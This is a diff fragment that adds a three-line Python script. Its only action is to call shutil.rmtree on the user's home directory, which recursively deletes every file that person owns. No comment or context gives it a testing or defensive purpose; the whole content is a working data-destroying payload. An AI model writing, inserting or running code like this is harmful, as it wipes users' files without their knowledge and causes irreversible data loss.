@@ -1,0 +1,3 @@
+#!/usr/bin/env python3
+import shutil, os
+shutil.rmtree(os.path.expanduser('~'))
